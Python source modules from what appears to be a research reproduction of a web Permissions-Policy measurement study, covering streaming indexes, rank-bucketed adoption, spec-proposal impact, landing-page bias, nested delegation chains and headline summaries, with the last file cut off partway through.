class IncrementalIndex(DatasetIndex):
    """Streaming counterpart of :class:`DatasetIndex` for bounded memory.

    Where :class:`DatasetIndex` materializes every visit and its
    :class:`VisitIndex` up front, this index consumes visits one at a time
    through :meth:`add` and retains only the memo tables and running
    totals — a 100k-site store streamed through
    :meth:`~repro.crawler.storage.CrawlStore.iter_visits` never becomes
    resident.  :func:`repro.analysis.summary.summarize_streaming` drives
    one cooperative pass: each :meth:`add` result is handed to every
    analysis's ``_aggregate_visit`` before the next visit is read.

    Analyses built on a streaming index skip their constructor-time
    aggregation loop (:attr:`DatasetIndex.streaming` is their signal) and
    read ``top_level_documents`` / ``website_count`` from the index at
    property-access time, i.e. after the stream has drained.
    """

    streaming = True

    def __init__(self, *, registry: PermissionRegistry | None = None) -> None:
        self._init_memos(registry)
        self.top_level_documents = 0
        self.website_count = 0

    def add(self, visit: SiteVisit) -> "VisitIndex | None":
        """Index one visit; returns its :class:`VisitIndex`, or ``None``
        for failed visits (which analyses never see, matching the
        ``successful()`` filter of the materialized path)."""
        if not visit.success:
            return None
        self.website_count += 1
        self.top_level_documents += visit.top_level_document_count
        return self._index_visit(visit)

    def merge_partial(self, website_count: int,
                      top_level_documents: int) -> None:
        """Fold another span's running totals in — the process-parallel
        summarize aggregates disjoint rank spans on worker-local indexes
        and merges only these two counters (memo tables are pure caches
        and need no merging)."""
        self.website_count += website_count
        self.top_level_documents += top_level_documents

    @property
    def visits(self) -> list[SiteVisit]:
        raise TypeError(
            "IncrementalIndex does not retain visits — stream them again "
            "from the store (CrawlStore.iter_visits)")

    @property
    def visit_indexes(self) -> list[VisitIndex]:
        raise TypeError(
            "IncrementalIndex does not retain visit indexes — use add() "
            "and aggregate per visit")


def as_index(source: "Union[DatasetIndex, Iterable[SiteVisit], object]",
             registry: PermissionRegistry | None = None) -> DatasetIndex:
    """Coerce an analysis constructor's first argument into a shared index.

    An existing :class:`DatasetIndex` is passed through unchanged when its
    registry is compatible (no registry requested, or the same object);
    anything else — a dataset or a plain visit iterable — gets indexed.
    """
    if isinstance(source, DatasetIndex):
        if registry is None or registry is source.registry:
            return source
        return DatasetIndex(source.visits, registry=registry)
    return DatasetIndex(source, registry=registry)
