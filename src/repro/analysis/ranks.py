"""Rank-stratified views of the measurement (popularity extension).

The paper measures the top 1M as one population (noting only that 27 of
LiveChat's embedders are in the CrUX top 5,000).  Security-header studies
consistently find adoption skewed toward popular sites; this module slices
every headline metric by rank bucket so that skew becomes visible:

* ``Permissions-Policy`` adoption per bucket,
* delegation and invocation shares per bucket,
* widget penetration per bucket (who embeds LiveChat at the top vs the
  tail).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Iterable

from repro.crawler.records import SiteVisit
from repro.policy.allow_attr import parse_allow_attribute

#: Default rank buckets as (label, inclusive upper percentile).
DEFAULT_BUCKETS: tuple[tuple[str, float], ...] = (
    ("top 2%", 0.02),
    ("2-10%", 0.10),
    ("10-40%", 0.40),
    ("tail", 1.0),
)


@dataclass
class RankBucket:
    """Aggregates for one popularity slice."""

    label: str
    sites: int = 0
    with_pp_header: int = 0
    with_invocation: int = 0
    delegating: int = 0
    embedding: Counter = field(default_factory=Counter)

    def share(self, count: int) -> float:
        return count / self.sites if self.sites else 0.0

    @property
    def pp_header_share(self) -> float:
        return self.share(self.with_pp_header)

    @property
    def invocation_share(self) -> float:
        return self.share(self.with_invocation)

    @property
    def delegation_share(self) -> float:
        return self.share(self.delegating)


class RankBucketAnalysis:
    """Slices a crawl by site-rank percentile."""

    def __init__(self, visits: Iterable[SiteVisit], total_sites: int, *,
                 buckets: tuple[tuple[str, float], ...] = DEFAULT_BUCKETS
                 ) -> None:
        if total_sites <= 0:
            raise ValueError("total_sites must be positive")
        self.total_sites = total_sites
        self.buckets = [RankBucket(label) for label, _ in buckets]
        self._bounds = [bound for _, bound in buckets]
        for visit in visits:
            if visit.success:
                self._aggregate(visit)

    def _bucket_for(self, rank: int) -> RankBucket:
        percentile = rank / self.total_sites
        for bucket, bound in zip(self.buckets, self._bounds):
            if percentile < bound or bound >= 1.0:
                return bucket
        return self.buckets[-1]

    def _aggregate(self, visit: SiteVisit) -> None:
        bucket = self._bucket_for(max(0, visit.rank))
        bucket.sites += 1
        top = visit.top_frame
        if top.header("permissions-policy") is not None:
            bucket.with_pp_header += 1
        if visit.calls:
            bucket.with_invocation += 1
        top_site = top.site
        delegating = False
        for frame in visit.frames:
            if frame.depth != 1 or frame.is_local or not frame.site:
                continue
            if frame.site != top_site:
                bucket.embedding[frame.site] += 1
            allow = frame.allow_attribute
            if allow and parse_allow_attribute(allow).delegated_features:
                delegating = True
        if delegating:
            bucket.delegating += 1

    # -- views ---------------------------------------------------------------------

    def adoption_gradient(self) -> list[tuple[str, float]]:
        """(bucket, PP adoption share) from most to least popular."""
        return [(bucket.label, bucket.pp_header_share)
                for bucket in self.buckets]

    def is_adoption_monotone(self) -> bool:
        """Whether adoption falls (weakly) with decreasing popularity."""
        shares = [bucket.pp_header_share for bucket in self.buckets
                  if bucket.sites >= 50]
        return all(a >= b * 0.95 for a, b in zip(shares, shares[1:]))

    def widget_penetration(self, site: str) -> list[tuple[str, float]]:
        """Share of each bucket's sites embedding ``site`` — e.g. LiveChat
        at the top vs the tail."""
        return [(bucket.label, bucket.share(bucket.embedding.get(site, 0)))
                for bucket in self.buckets]
