"""Rank-stratified views of the measurement (popularity extension).

The paper measures the top 1M as one population (noting only that 27 of
LiveChat's embedders are in the CrUX top 5,000).  Security-header studies
consistently find adoption skewed toward popular sites; this module slices
every headline metric by rank bucket so that skew becomes visible:

* ``Permissions-Policy`` adoption per bucket,
* delegation and invocation shares per bucket,
* widget penetration per bucket (who embeds LiveChat at the top vs the
  tail).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Iterable, Union

from repro.analysis.index import DatasetIndex, VisitIndex, as_index
from repro.crawler.records import SiteVisit

#: Default rank buckets as (label, inclusive upper percentile).
DEFAULT_BUCKETS: tuple[tuple[str, float], ...] = (
    ("top 2%", 0.02),
    ("2-10%", 0.10),
    ("10-40%", 0.40),
    ("tail", 1.0),
)


@dataclass
class RankBucket:
    """Aggregates for one popularity slice."""

    label: str
    sites: int = 0
    with_pp_header: int = 0
    with_invocation: int = 0
    delegating: int = 0
    embedding: Counter = field(default_factory=Counter)

    def share(self, count: int) -> float:
        return count / self.sites if self.sites else 0.0

    @property
    def pp_header_share(self) -> float:
        return self.share(self.with_pp_header)

    @property
    def invocation_share(self) -> float:
        return self.share(self.with_invocation)

    @property
    def delegation_share(self) -> float:
        return self.share(self.delegating)


class RankBucketAnalysis:
    """Slices a crawl by site-rank percentile."""

    def __init__(self,
                 visits: "Union[DatasetIndex, Iterable[SiteVisit]]",
                 total_sites: int, *,
                 buckets: tuple[tuple[str, float], ...] = DEFAULT_BUCKETS
                 ) -> None:
        if total_sites <= 0:
            raise ValueError("total_sites must be positive")
        if not buckets:
            raise ValueError("at least one bucket is required")
        bounds = [bound for _, bound in buckets]
        if any(b >= a for b, a in zip(bounds, bounds[1:])):
            raise ValueError(
                f"bucket bounds must be strictly ascending, got {bounds}")
        self.total_sites = total_sites
        self.buckets = [RankBucket(label) for label, _ in buckets]
        self._bounds = bounds
        index = as_index(visits)
        for vi in index.visit_indexes:
            self._aggregate(vi)

    def _bucket_for(self, rank: int) -> RankBucket:
        """Bucket for a rank percentile.  Every bucket except the last is
        bounded by its (exclusive) upper percentile; the last bucket is an
        explicit fallthrough catching everything beyond the previous bound,
        including ranks at or past ``total_sites``."""
        percentile = rank / self.total_sites
        for bucket, bound in zip(self.buckets[:-1], self._bounds[:-1]):
            if percentile < bound:
                return bucket
        return self.buckets[-1]

    def _aggregate(self, vi: VisitIndex) -> None:
        visit = vi.visit
        bucket = self._bucket_for(max(0, visit.rank))
        bucket.sites += 1
        top = vi.top
        if top.header("permissions-policy") is not None:
            bucket.with_pp_header += 1
        if visit.calls:
            bucket.with_invocation += 1
        top_site = top.site
        delegating = False
        for frame in vi.direct_embedded:
            if frame.is_local or not frame.site:
                continue
            if frame.site != top_site:
                bucket.embedding[frame.site] += 1
            attribute = vi.allow_by_frame.get(frame.frame_id)
            if attribute is not None and attribute.delegated_features:
                delegating = True
        if delegating:
            bucket.delegating += 1

    # -- views ---------------------------------------------------------------------

    def adoption_gradient(self) -> list[tuple[str, float]]:
        """(bucket, PP adoption share) from most to least popular."""
        return [(bucket.label, bucket.pp_header_share)
                for bucket in self.buckets]

    def is_adoption_monotone(self) -> bool:
        """Whether adoption falls (weakly) with decreasing popularity."""
        shares = [bucket.pp_header_share for bucket in self.buckets
                  if bucket.sites >= 50]
        return all(a >= b * 0.95 for a, b in zip(shares, shares[1:]))

    def widget_penetration(self, site: str) -> list[tuple[str, float]]:
        """Share of each bucket's sites embedding ``site`` — e.g. LiveChat
        at the top vs the tail."""
        return [(bucket.label, bucket.share(bucket.embedding.get(site, 0)))
                for bucket in self.buckets]
