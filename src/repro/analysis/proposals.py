"""Evaluating the specification changes the paper discusses (Section 6.2).

Two open W3C proposals get quantified against the crawl:

* **Deny-all default** (issue #483): today a header must disable every
  permission explicitly; the paper criticises the "lack of a default
  disallow all directive" as an omission risk.  Under the proposal, a site
  deploying a header would get every *undeclared* permission disabled.
  :func:`evaluate_default_disallow_all` measures the migration cost: how
  many header-deploying sites actually rely on defaults for permissions
  they observably use — i.e. would break if the proposal shipped and they
  changed nothing.

* **Local-scheme inheritance fix** (issue #552): the Table 11 bug.
  :func:`local_scheme_attack_surface` measures who is exposed today: sites
  whose header restricts a powerful permission to ``self`` (the config the
  bypass defeats) while their CSP does not constrain frame loads (the
  injection precondition).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Iterable, Union

from repro.analysis.index import DatasetIndex, as_index
from repro.crawler.records import SiteVisit
from repro.policy.allowlist import DirectiveClass, classify_directive
from repro.policy.csp import ContentSecurityPolicy, local_scheme_attack_possible
from repro.registry.features import PermissionRegistry


@dataclass
class DenyAllBreakageReport:
    """Migration cost of the deny-all-default proposal."""

    header_sites: int = 0
    sites_breaking: int = 0
    broken_permissions: Counter = field(default_factory=Counter)

    @property
    def breaking_share(self) -> float:
        if not self.header_sites:
            return 0.0
        return self.sites_breaking / self.header_sites


def evaluate_default_disallow_all(
        visits: "Union[DatasetIndex, Iterable[SiteVisit]]",
        registry: PermissionRegistry | None = None) -> DenyAllBreakageReport:
    """Which header-deploying sites would break under deny-all defaults.

    A site breaks when its top-level document observably invokes a
    policy-controlled permission that its header does not declare with a
    non-empty allowlist — under the proposal that permission would be off.
    """
    index = as_index(visits, registry)
    registry = index.registry
    report = DenyAllBreakageReport()
    for vi in index.visit_indexes:
        visit = vi.visit
        top = vi.top
        raw = top.header("permissions-policy")
        if raw is None:
            continue
        lint = index.lint(raw)
        if lint.header_dropped:
            continue  # dropped headers are a separate failure class
        parsed = lint.parsed
        report.header_sites += 1
        used = set()
        for call in visit.calls_in_frame(top.frame_id):
            for permission in call.permissions:
                perm = registry.maybe(permission)
                if perm is not None and perm.policy_controlled:
                    used.add(permission)
        broken = {
            permission for permission in used
            if permission not in parsed.directives
            or parsed.directives[permission].is_empty
        }
        # Permissions declared with an empty allowlist are broken today
        # already; only count *newly* broken ones (undeclared).
        newly_broken = {p for p in broken if p not in parsed.directives}
        if newly_broken:
            report.sites_breaking += 1
            report.broken_permissions.update(newly_broken)
    return report


@dataclass
class AttackSurfaceReport:
    """Exposure to the local-scheme bypass (Section 6.2)."""

    sites_with_self_only_powerful: int = 0
    exposed_sites: int = 0          # …of those, CSP does not constrain frames
    protected_by_csp: int = 0
    exposed_permissions: Counter = field(default_factory=Counter)

    @property
    def exposure_share(self) -> float:
        if not self.sites_with_self_only_powerful:
            return 0.0
        return self.exposed_sites / self.sites_with_self_only_powerful


def local_scheme_attack_surface(
        visits: "Union[DatasetIndex, Iterable[SiteVisit]]",
        registry: PermissionRegistry | None = None) -> AttackSurfaceReport:
    """Measure who the Table 11 bug can actually hurt.

    Preconditions per site: (a) the header restricts at least one powerful
    permission to a non-empty, ``self``-style allowlist — a wildcard grant
    has nothing to bypass and a disabled feature stays disabled even for
    the local-scheme document; (b) the CSP (if any) leaves frame loads
    unconstrained, so HTML injection can plant the ``data:`` iframe.
    """
    index = as_index(visits, registry)
    registry = index.registry
    report = AttackSurfaceReport()
    for vi in index.visit_indexes:
        top = vi.top
        raw = top.header("permissions-policy")
        if raw is None:
            continue
        lint = index.lint(raw)
        if lint.header_dropped:
            continue
        parsed = lint.parsed
        origin = index.origin(top.url)
        if origin is None:
            continue
        vulnerable_permissions = []
        for feature, allowlist in parsed.directives.items():
            perm = registry.maybe(feature)
            if perm is None or not perm.powerful:
                continue
            if allowlist.is_empty:
                continue  # disabled features stay disabled — no bypass
            cls = classify_directive(allowlist, origin)
            if cls in (DirectiveClass.SELF, DirectiveClass.SAME_ORIGIN,
                       DirectiveClass.SAME_SITE, DirectiveClass.THIRD_PARTY):
                vulnerable_permissions.append(feature)
        if not vulnerable_permissions:
            continue
        report.sites_with_self_only_powerful += 1
        csp_raw = top.header("content-security-policy")
        policy = (ContentSecurityPolicy.parse(csp_raw)
                  if csp_raw is not None else None)
        if local_scheme_attack_possible(policy, self_origin=origin):
            report.exposed_sites += 1
            report.exposed_permissions.update(vulnerable_permissions)
        else:
            report.protected_by_csp += 1
    return report
