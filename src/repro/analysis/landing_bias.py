"""Landing-page bias: what a landing-page-only crawl misses (paper §6.1).

"Another limitation is that our crawler is restricted to the landing page,
which limits visibility into features and permission usage that may only
appear after navigating through the website [1, 33]."  The synthetic web
models this: navigation-gated functionality on the landing page runs
immediately on the corresponding subpages.  This module crawls both ways
and quantifies the gap the paper could only acknowledge.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable

from repro.crawler.crawler import Crawler
from repro.crawler.fetcher import SyntheticFetcher
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry
from repro.synthweb.generator import FailureMode, SyntheticWeb


@dataclass
class LandingBiasReport:
    """Landing-only vs landing+subpages dynamic coverage."""

    sites_measured: int = 0
    sites_with_extra_permissions: int = 0
    landing_permission_total: int = 0
    full_permission_total: int = 0
    extra_permissions: dict[str, int] = field(default_factory=dict)

    @property
    def extra_share(self) -> float:
        """Share of measured sites where deep pages revealed permissions the
        landing page did not."""
        if not self.sites_measured:
            return 0.0
        return self.sites_with_extra_permissions / self.sites_measured

    @property
    def coverage_ratio(self) -> float:
        """Landing-page dynamic coverage relative to the full crawl."""
        if not self.full_permission_total:
            return 1.0
        return self.landing_permission_total / self.full_permission_total


def measure_landing_bias(web: SyntheticWeb, *, sample: int = 300,
                         subpages: int = 3,
                         registry: PermissionRegistry | None = None
                         ) -> LandingBiasReport:
    """Crawl a sample of sites landing-only and with subpage navigation.

    Args:
        web: The synthetic web to measure.
        sample: Number of successful sites to include.
        subpages: Subpages visited per site (the manual Appendix A.3 study
            "visited multiple paths within the same origin").
    """
    registry = registry if registry is not None else DEFAULT_REGISTRY
    crawler = Crawler(SyntheticFetcher(web))
    report = LandingBiasReport()
    for rank in range(web.site_count):
        if report.sites_measured >= sample:
            break
        spec = web.site(rank)
        if spec.failure is not FailureMode.NONE:
            continue
        landing = crawler.visit(web.origin_for_rank(rank), rank=rank)
        landing_permissions = _dynamic_permissions(landing, registry)
        full_permissions = set(landing_permissions)
        for index in range(min(subpages, spec.subpage_count)):
            visit = crawler.visit(f"{spec.url}/p{index}", rank=rank)
            full_permissions |= _dynamic_permissions(visit, registry)
        report.sites_measured += 1
        report.landing_permission_total += len(landing_permissions)
        report.full_permission_total += len(full_permissions)
        extra = full_permissions - landing_permissions
        if extra:
            report.sites_with_extra_permissions += 1
            for permission in extra:
                report.extra_permissions[permission] = \
                    report.extra_permissions.get(permission, 0) + 1
    return report


def _dynamic_permissions(visit, registry: PermissionRegistry) -> set[str]:
    return {permission
            for call in visit.calls
            for permission in call.permissions
            if (perm := registry.maybe(permission)) is not None
            and perm.instrumented}
