"""Nested delegation chains (extension of paper Sections 2.2.5 and 4.2).

The paper restricts its delegation analysis to directly inserted iframes
"for simplicity", while warning (Section 2.2.5) that once a permission is
delegated, "the developer of the top-level website can no longer prevent
nested delegations".  This module analyses the part the paper leaves out:

* which permissions get *re-delegated* deeper than depth 1,
* whether the nested frame actually receives the permission (re-evaluating
  the policy over the recorded frame tree),
* and the paper's no-control observation quantified: chains where the
  top-level header names specific origins for a permission, yet a
  different origin at depth ≥ 2 ends up with it anyway.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from typing import Iterable, Union

from repro.analysis.index import DatasetIndex, VisitIndex, as_index
from repro.crawler.records import FrameRecord, SiteVisit
from repro.policy.allow_attr import parse_allow_attribute
from repro.policy.engine import PermissionsPolicyEngine, PolicyFrame


@dataclass(frozen=True)
class DelegationChain:
    """One redelegation path: top-level → … → nested frame."""

    rank: int
    permission: str
    frame_sites: tuple[str, ...]         # per hop, top-level first
    depth: int
    nested_frame_enabled: bool
    escapes_top_level_policy: bool

    @property
    def crosses_sites(self) -> bool:
        return len(set(self.frame_sites)) > 2


def rebuild_policy_frames(visit: SiteVisit) -> dict[int, PolicyFrame]:
    """Reconstruct the policy frame tree from stored crawl records, so
    policies can be re-evaluated offline (no re-crawl needed)."""
    frames: dict[int, PolicyFrame] = {}
    ordered = sorted(visit.frames, key=lambda frame: frame.depth)
    for record in ordered:
        header = record.header("permissions-policy")
        fp_header = record.header("feature-policy")
        attrs = record.iframe_attributes or {}
        if record.parent_id is None:
            frames[record.frame_id] = PolicyFrame.top(
                record.url, header=header, fp_header=fp_header)
            continue
        parent = frames[record.parent_id]
        if record.is_local:
            scheme = record.url.split(":", 1)[0]
            if scheme not in ("data", "blob", "javascript"):
                scheme = "about"
            frames[record.frame_id] = parent.local_child(
                scheme=scheme, allow=attrs.get("allow"))
        else:
            frames[record.frame_id] = parent.child(
                record.url, allow=attrs.get("allow"), header=header,
                fp_header=fp_header, sandbox=attrs.get("sandbox"))
    return frames


class NestedDelegationAnalysis:
    """Finds and evaluates depth ≥ 2 delegation chains."""

    def __init__(self,
                 visits: "Union[DatasetIndex, Iterable[SiteVisit]]", *,
                 engine: PermissionsPolicyEngine | None = None) -> None:
        self._engine = engine if engine is not None \
            else PermissionsPolicyEngine()
        self._index = as_index(visits)
        self.chains: list[DelegationChain] = []
        self.sites_with_nested_delegation = 0
        self.redelegated_permissions: Counter = Counter()
        self.max_depth = 0
        for vi in self._index.visit_indexes:
            self._analyse_visit(vi)

    def _analyse_visit(self, vi: VisitIndex) -> None:
        visit = vi.visit
        by_id = vi.frames_by_id
        deep_frames = [frame for frame in visit.frames if frame.depth >= 2]
        if not deep_frames:
            return
        policy_frames = rebuild_policy_frames(visit)
        top = vi.top
        found_nested = False
        for frame in deep_frames:
            attribute = vi.allow_by_frame.get(frame.frame_id)
            if attribute is None:
                continue
            delegated = attribute.delegated_features
            if not delegated:
                continue
            path = self._path_sites(frame, by_id)
            for permission in delegated:
                if not self._ancestor_delegates(frame, by_id, permission):
                    continue  # not a *re*-delegation
                found_nested = True
                enabled = self._engine.is_enabled(
                    permission, policy_frames[frame.frame_id])
                escapes = enabled and self._top_level_names_origins(
                    top, permission, frame)
                self.redelegated_permissions[permission] += 1
                self.max_depth = max(self.max_depth, frame.depth)
                self.chains.append(DelegationChain(
                    rank=visit.rank, permission=permission,
                    frame_sites=path, depth=frame.depth,
                    nested_frame_enabled=enabled,
                    escapes_top_level_policy=escapes))
        if found_nested:
            self.sites_with_nested_delegation += 1

    @staticmethod
    def _path_sites(frame: FrameRecord,
                    by_id: dict[int, FrameRecord]) -> tuple[str, ...]:
        path = []
        node: FrameRecord | None = frame
        while node is not None:
            path.append(node.site or "(local)")
            node = by_id.get(node.parent_id) if node.parent_id is not None \
                else None
        return tuple(reversed(path))

    @staticmethod
    def _ancestor_delegates(frame: FrameRecord,
                            by_id: dict[int, FrameRecord],
                            permission: str) -> bool:
        """Whether any ancestor iframe already delegated the permission —
        the precondition for calling the deep entry a re-delegation."""
        node = by_id.get(frame.parent_id) if frame.parent_id is not None \
            else None
        while node is not None and node.parent_id is not None:
            allow = (node.iframe_attributes or {}).get("allow")
            if allow and permission in \
                    parse_allow_attribute(allow).delegated_features:
                return True
            node = by_id.get(node.parent_id)
        return False

    def _top_level_names_origins(self, top: FrameRecord, permission: str,
                                 frame: FrameRecord) -> bool:
        """Whether the top-level header names explicit origins for this
        permission yet the deep frame's origin is not among them — the
        nested frame escaped the top level's intent."""
        raw = top.header("permissions-policy")
        if raw is None:
            return False
        report = self._index.lint(raw)
        if report.header_dropped:
            return False
        allowlist = report.parsed.directives.get(permission)
        if allowlist is None or allowlist.star or not allowlist.origins:
            return False
        top_origin = self._index.origin(top.url)
        frame_origin = self._index.origin(frame.url)
        if top_origin is None or frame_origin is None:
            return False
        return not allowlist.allows(frame_origin, self_origin=top_origin)

    # -- summaries ------------------------------------------------------------------

    def escaped_chains(self) -> list[DelegationChain]:
        return [chain for chain in self.chains
                if chain.escapes_top_level_policy]

    def enabled_share(self) -> float:
        """Share of re-delegation chains whose nested frame actually holds
        the permission."""
        if not self.chains:
            return 0.0
        enabled = sum(1 for chain in self.chains
                      if chain.nested_frame_enabled)
        return enabled / len(self.chains)
