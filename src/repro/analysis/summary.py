"""Headline measurement summary (the Section 4 numbers).

:func:`summarize` runs all analyses over one crawl dataset and collects the
headline aggregates into a :class:`MeasurementSummary`, with a
``compare_to_paper`` helper that renders paper-vs-measured rows for
EXPERIMENTS.md and the benchmark output.
"""

from __future__ import annotations

import logging
import math
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Iterable, Union

from repro.analysis.delegation import DelegationAnalysis
from repro.analysis.headers import HeaderAnalysis
from repro.analysis.index import DatasetIndex, IncrementalIndex
from repro.analysis.overpermission import OverPermissionAnalysis
from repro.analysis.usage import UsageAnalysis
from repro.crawler.pool import CrawlDataset
from repro.crawler.records import SiteVisit
from repro.obs.tracing import TRACER
from repro.policy.allow_attr import DelegationDirectiveKind
from repro.policy.allowlist import DirectiveClass
from repro.registry.features import PermissionRegistry
from repro.synthweb.distributions import PAPER

logger = logging.getLogger(__name__)


@dataclass
class MeasurementSummary:
    """Every headline number of the paper's Section 4, measured."""

    attempted_sites: int
    successful_sites: int
    failure_summary: dict[str, int]
    top_level_documents: int
    embedded_documents: int
    sites_with_iframes: int
    local_embedded_share: float
    average_seconds_per_site: float

    share_any_invocation: float
    share_invocation_top: float
    share_invocation_embedded: float
    share_any_functionality: float
    share_any_static: float
    top_third_party_share: float
    embedded_first_party_share: float

    share_sites_delegating: float
    share_sites_delegating_external: float
    directive_share_default_src: float
    directive_share_star: float

    pp_header_top_level_share: float
    pp_header_all_docs_share: float
    fp_header_all_docs_share: float
    pp_header_embedded_share: float
    header_class_disable_share: float
    header_class_self_share: float
    header_class_star_share: float
    syntax_error_top_level_sites: int
    semantic_issue_top_level_sites: int

    overpermission_affected_websites: int

    def compare_to_paper(self) -> list[tuple[str, float, float]]:
        """(metric name, paper value, measured value) rows for the shape
        comparison — each pair should agree in magnitude, not digit-for-
        digit (our substrate is a calibrated simulation)."""
        return [
            ("any permission functionality (share of top docs)",
             PAPER.share_any_functionality, self.share_any_functionality),
            ("any invocation", PAPER.share_any_invocation,
             self.share_any_invocation),
            ("invocation in top-level", PAPER.share_invocation_top_level,
             self.share_invocation_top),
            ("invocation in embedded", PAPER.share_invocation_embedded,
             self.share_invocation_embedded),
            ("static functionality", PAPER.share_static_any,
             self.share_any_static),
            ("top-level invocations third-party",
             PAPER.top_level_third_party_share, self.top_third_party_share),
            ("embedded invocations first-party",
             PAPER.embedded_first_party_share,
             self.embedded_first_party_share),
            ("sites delegating permissions", PAPER.share_sites_delegating,
             self.share_sites_delegating),
            ("sites delegating to external iframes",
             PAPER.share_sites_delegating_external,
             self.share_sites_delegating_external),
            ("delegation directives defaulting to src",
             PAPER.directive_share_default_src,
             self.directive_share_default_src),
            ("delegation directives using *", PAPER.directive_share_star,
             self.directive_share_star),
            ("Permissions-Policy header on top-level documents",
             PAPER.pp_header_top_level_share, self.pp_header_top_level_share),
            ("Permissions-Policy adoption over all documents",
             PAPER.pp_header_adoption_all_docs, self.pp_header_all_docs_share),
            ("Feature-Policy adoption over all documents",
             PAPER.fp_header_adoption_all_docs, self.fp_header_all_docs_share),
            ("header directives disabling features",
             PAPER.directive_class_disable_share,
             self.header_class_disable_share),
            ("header directives restricted to self",
             PAPER.directive_class_self_share, self.header_class_self_share),
            ("header directives using *", PAPER.directive_class_star_share,
             self.header_class_star_share),
            ("local share of embedded documents",
             PAPER.local_embedded_share, self.local_embedded_share),
        ]


def summarize(dataset: CrawlDataset, *, parallel: bool = True,
              index: DatasetIndex | None = None) -> MeasurementSummary:
    """Run every analysis over ``dataset`` and collect the headline
    aggregates.

    The visits are indexed once (:class:`~repro.analysis.index.DatasetIndex`)
    and the four analyses share that index.  They are independent of each
    other, so with ``parallel=True`` they run on a small thread pool — the
    index is read-only at that point, making the fan-out race-free.  Pass a
    prebuilt ``index`` to reuse one across calls (as
    :class:`~repro.experiments.runner.ExperimentContext` does).  Serial and
    parallel runs produce field-identical summaries.
    """
    if index is None:
        index = DatasetIndex(dataset)

    def build(name: str, analysis_cls):
        # Thread-pool futures run on worker threads, so each span becomes
        # its own root labelled by the analysis it timed.
        with TRACER.span(f"analysis.{name}"):
            return analysis_cls(index)

    with TRACER.span("analysis.summarize", parallel=parallel,
                     visits=index.website_count):
        if parallel:
            with ThreadPoolExecutor(max_workers=4) as pool:
                usage_future = pool.submit(build, "usage", UsageAnalysis)
                delegation_future = pool.submit(build, "delegation",
                                                DelegationAnalysis)
                headers_future = pool.submit(build, "headers", HeaderAnalysis)
                overpermission_future = pool.submit(build, "overpermission",
                                                    OverPermissionAnalysis)
                usage = usage_future.result()
                delegation = delegation_future.result()
                headers = headers_future.result()
                overpermission = overpermission_future.result()
        else:
            usage = build("usage", UsageAnalysis)
            delegation = build("delegation", DelegationAnalysis)
            headers = build("headers", HeaderAnalysis)
            overpermission = build("overpermission", OverPermissionAnalysis)
    return _finish_summary(
        attempted_sites=dataset.attempted,
        successful_sites=dataset.successful_count,
        failure_summary=dataset.failure_summary(),
        top_level_documents=dataset.top_level_document_count,
        embedded_documents=dataset.embedded_document_count,
        sites_with_iframes=dataset.sites_with_iframes(),
        local_embedded_share=dataset.local_embedded_share(),
        average_seconds_per_site=dataset.average_duration_seconds(),
        usage=usage, delegation=delegation, headers=headers,
        overpermission=overpermission)


class _ExactSum:
    """Exact (error-free) float accumulator — Shewchuk partials, the same
    algorithm behind :func:`math.fsum`, kept in mergeable object form.

    The partials are non-overlapping floats whose exact sum equals the
    exact sum of every value ever added, so :attr:`value` (one fsum over
    the partials) is the *correctly rounded* total regardless of how the
    additions were grouped.  That is what lets the process-parallel
    summarize split a duration sum across rank spans and still match the
    serial pass (and :meth:`CrawlDataset.average_duration_seconds
    <repro.crawler.pool.CrawlDataset.average_duration_seconds>`)
    bit-for-bit.
    """

    __slots__ = ("partials",)

    def __init__(self, partials: "Iterable[float] | None" = None) -> None:
        self.partials: list[float] = list(partials or ())

    def add(self, x: float) -> None:
        partials = self.partials
        count = 0
        for y in partials:
            if abs(x) < abs(y):
                x, y = y, x
            high = x + y
            low = y - (high - x)
            if low:
                partials[count] = low
                count += 1
            x = high
        partials[count:] = [x]

    def merge(self, other: "_ExactSum") -> None:
        for partial in other.partials:
            self.add(partial)

    @property
    def value(self) -> float:
        return math.fsum(self.partials)

    # list-of-floats state keeps the accumulator pickle-friendly across
    # the process boundary without a custom __reduce__
    def __getstate__(self) -> list[float]:
        return self.partials

    def __setstate__(self, state: list[float]) -> None:
        self.partials = list(state)


@dataclass
class _DatasetTally:
    """Streaming replacement for the dataset-level aggregates of
    :class:`~repro.crawler.pool.CrawlDataset` that :func:`summarize` reads.

    Every accumulator is additive per visit — the duration sum through an
    exact accumulator (:class:`_ExactSum`), so streaming, materialized and
    span-merged (process-parallel) tallies are bit-identical however the
    visits were grouped.
    """

    attempted: int = 0
    successful: int = 0
    failures: Counter = field(default_factory=Counter)
    top_level_documents: int = 0
    embedded_documents: int = 0
    sites_with_iframes: int = 0
    local_embedded: int = 0
    duration: _ExactSum = field(default_factory=_ExactSum)

    def add(self, visit: SiteVisit) -> None:
        self.attempted += 1
        self.duration.add(visit.duration_seconds)
        if not visit.success:
            self.failures[visit.failure] += 1
            return
        self.successful += 1
        self.top_level_documents += visit.top_level_document_count
        embedded = visit.embedded_frames()
        self.embedded_documents += len(embedded)
        if embedded:
            self.sites_with_iframes += 1
        for frame in embedded:
            if frame.is_local:
                self.local_embedded += 1

    def merge(self, other: "_DatasetTally") -> None:
        """Fold another span's tally in (spans merged in rank order so
        the failure Counter's insertion order matches a serial pass)."""
        self.attempted += other.attempted
        self.successful += other.successful
        for failure, count in other.failures.items():
            self.failures[failure] += count
        self.top_level_documents += other.top_level_documents
        self.embedded_documents += other.embedded_documents
        self.sites_with_iframes += other.sites_with_iframes
        self.local_embedded += other.local_embedded
        self.duration.merge(other.duration)

    @property
    def duration_total(self) -> float:
        return self.duration.value

    @property
    def local_embedded_share(self) -> float:
        return (self.local_embedded / self.embedded_documents
                if self.embedded_documents else 0.0)

    @property
    def average_duration_seconds(self) -> float:
        return (self.duration.value / self.attempted
                if self.attempted else 0.0)


def summarize_streaming(visits: "Union[Iterable[SiteVisit], object]", *,
                        registry: PermissionRegistry | None = None,
                        workers: int = 1,
                        mp_context: "str | None" = None
                        ) -> MeasurementSummary:
    """Bounded-memory :func:`summarize` over a visit stream.

    Drives one cooperative pass: each visit (e.g. from
